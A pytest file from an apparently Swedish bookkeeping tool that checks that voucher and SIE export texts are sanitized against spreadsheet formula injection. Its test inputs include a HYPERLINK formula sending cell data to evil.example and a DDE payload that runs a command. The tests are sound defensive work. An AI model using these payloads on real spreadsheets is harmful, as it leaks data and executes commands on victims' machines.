"""Texts sent to Fortnox or written to SIE never start like a spreadsheet formula (``=``, ``+``, ``-``, ``@``)."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from juni_tui.domain.settings import Settings
from juni_tui.domain.vat import VatCode
from juni_tui.services import sie
from juni_tui.services.fortnox import spec
from juni_tui.services.vouchers import build_voucher
from tests.conftest import make_tx
from tests.test_sie import read_sie

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "  =1+1", "\t=1+1", "\r=1+1", "\u00a0-1"]
FORMULA_START = ("=", "+", "-", "@")


def starts_like_a_formula(text: str) -> bool:
    return text.lstrip(" \t\r\n\u00a0").startswith(FORMULA_START)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_fortnox_text_never_starts_like_a_formula_and_keeps_its_words(text):
    cleaned = spec.sanitize_text(text)
    assert not starts_like_a_formula(cleaned)
    assert cleaned.startswith("’")  # the typographic apostrophe: Fortnox takes it, a spreadsheet reads text
    assert not spec.invalid_characters(cleaned)


def test_negative_numbers_and_ordinary_texts_are_left_alone():
    assert spec.sanitize_text("Adobe -25 % rabatt") == "Adobe -25 % rabatt"
    assert spec.sanitize_text("a = b") == "a = b"


@pytest.mark.parametrize("text", FORMULAS)
def test_voucher_texts_from_a_hostile_merchant_and_description_do_not_start_like_formulas(text):
    tx = make_tx(merchant=text, description=text, account=5410, vat_code=VatCode.VAT25, card=text, cardholder=text,
                 no_receipt_reason=text)
    body = build_voucher(tx, Settings(), "A").to_fortnox()["Voucher"]
    texts = [body["Description"], body.get("Comments") or ""]
    for row in body["VoucherRows"]:
        texts += [row.get("Description") or "", row.get("TransactionInformation") or ""]
    assert not [t for t in texts if starts_like_a_formula(t)]
    assert sum(Decimal(str(row.get("Credit") or 0)) for row in body["VoucherRows"]) == Decimal("1250.00")


@pytest.mark.parametrize("text", FORMULAS)
def test_sie_text_fields_do_not_start_like_formulas(text):
    voucher = sie.SieVoucher(series="A", number=1, date=date(2026, 10, 5), text=text, regdate=date(2026, 10, 6),
                             rows=(sie.SieTrans(5410, Decimal("-100.00"), text, cost_center="-CC"),
                                   sie.SieTrans(1930, Decimal("100.00"), text)))
    header = sie.SieHeader(company_name=text, org_number=None, generated=date(2026, 10, 6), user=text)
    raw = sie.render(header, [voucher], {5410: text, 1930: "Bank"}, {(1, "-CC"): text})
    parsed = read_sie(raw)
    texts = [parsed.one("#FNAMN")[0], parsed.one("#GEN")[1], *(fields[1] for fields in parsed.posts["#KONTO"]),
             *(fields[2] for fields in parsed.posts["#OBJEKT"])]
    lines = raw.decode("cp437").splitlines()
    assert not [t for t in texts if starts_like_a_formula(t)], texts
    ver = [line for line in lines if line.startswith("#VER")]
    trans = [line for line in lines if line.strip().startswith("#TRANS")]
    assert ver and trans
    for line in ver + trans:
        quoted = line.split('"')[1::2]
        assert not [q for q in quoted if starts_like_a_formula(q) and q != "-CC"], line
    assert "-100.00" in raw.decode("cp437")  # amounts are numbers, untouched
    assert '"-CC"' in raw.decode("cp437")  # and codes are codes
